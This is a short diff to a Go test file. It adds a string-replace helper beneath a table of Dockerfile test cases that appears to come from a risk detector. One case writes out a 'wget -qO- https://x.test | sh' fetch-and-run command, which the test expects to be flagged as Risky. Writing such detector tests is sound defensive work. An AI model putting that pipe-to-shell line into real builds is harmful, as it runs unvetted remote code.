@@ -212,3 +212,5 @@ func TestDocker(t *testing.T) {
 		"fetch and run":          {"Dockerfile", old, old + "RUN wget -qO- https://x.test | sh\n", Risky},
 	}.check(t)
 }
+
+func replaceAll(s, from, to string) string { return strings.ReplaceAll(s, from, to) }
